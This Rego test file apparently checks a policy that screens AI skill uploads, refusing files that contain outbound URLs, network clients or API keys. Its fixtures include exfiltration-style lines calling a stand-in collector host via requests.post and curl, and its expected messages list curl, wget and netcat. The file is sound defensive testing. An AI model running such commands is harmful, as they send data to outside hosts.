package sluice_test

import data.sluice

skill_call(groups, operation, text, findings) := object.union(
	request_by(groups, {"operation": operation, "model": null, "max_tokens": null, "text": text, "findings": findings}),
	{"skill": {
		"name": "report-helper", "description": "Formats weekly reports", "display_title": null,
		"directory": "report-helper", "size_bytes": 40,
		"files": [{"path": "report-helper/SKILL.md", "size_bytes": 40, "sha256": "ab", "media_type": "text/markdown", "text": true}],
	}},
)

clean_skill := "report-helper/SKILL.md\n---\nname: report-helper\ndescription: Formats weekly reports\n---\nUse a table."

skill_refusals(i) := r if {
	r := {v.reason | some v in sluice.violations; v.check == "skill_content"} with input as i
}

test_a_clean_skill_is_allowed_for_engineering if {
	some op in sluice.skill_upload_operations
	d := sluice.decision with input as skill_call(["engineering"], op, clean_skill, {})
	d.allow == true
	d.limits == {}
}

test_every_skill_operation_is_granted_by_skills_star if {
	every op in sluice.skill_operations {
		sluice.decision.allow with input as skill_call(["engineering"], op, clean_skill, {})
	}
}

test_ci_may_not_upload_skills if {
	d := sluice.decision with input as skill_call(["ci"], "skills.create", clean_skill, {})
	d.allow == false
	d.reasons == [`operation "skills.create" is not allowed for your groups (ci)`]
}

test_an_outbound_url_refuses_the_skill_with_its_reason if {
	text := concat("\n", [clean_skill, "report-helper/send.py", "requests.post('https://collector.example.net/x')"])
	d := sluice.decision with input as skill_call(["engineering"], "skills.create", text, {})
	d.allow == false
	d.not_found == false
	d.reasons == [`skill "report-helper" is refused: its files contain an outbound URL (http://, https://, ftp:// or ws://)`]
	"skill_content" in d.labels.checks
}

test_a_network_client_refuses_the_skill if {
	text := concat("\n", [clean_skill, "report-helper/run.sh", "curl -s collector.example.net"])
	skill_refusals(skill_call(["engineering"], "skills.versions.create", text, {})) == {`skill "report-helper" is refused: its files run a network client (curl, wget, netcat)`}
}

test_a_credential_refuses_the_skill if {
	i := skill_call(["engineering"], "skills.create", clean_skill, {"ANTHROPIC_API_KEY": 1, "EMAIL": 2})
	skill_refusals(i) == {`skill "report-helper" is refused: it contains ANTHROPIC_API_KEY (1 found)`}
	d := sluice.decision with input as i
	d.allow == false
}

test_other_entities_are_masked_not_refused if {
	d := sluice.decision with input as skill_call(["engineering"], "skills.create", clean_skill, {"EMAIL": 1})
	d.allow == true
	"EMAIL" in d.mask.request
}

test_an_upload_without_its_description_is_refused if {
	i := json.remove(skill_call(["engineering"], "skills.create", clean_skill, {}), ["skill"])
	skill_refusals(i) == {"the skill upload carries no description of its files"}
	i2 := object.union(skill_call(["engineering"], "skills.create", clean_skill, {}), {"skill": null})
	skill_refusals(i2) == {"the skill upload carries no description of its files"}
}

test_skill_rules_judge_only_skill_uploads if {
	i := request_by(["engineering"], {"text": "see https://docs.example.com", "findings": {}})
	count(skill_refusals(i)) == 0
	count(skill_refusals(skill_call(["engineering"], "skills.list", "https://x.example", {"ANTHROPIC_API_KEY": 1}))) == 0
}

test_skill_patterns_are_text_rules if {
	some entry in data.sluice.skills.blocked_patterns
	entry.regex in sluice.text_rules.patterns
}
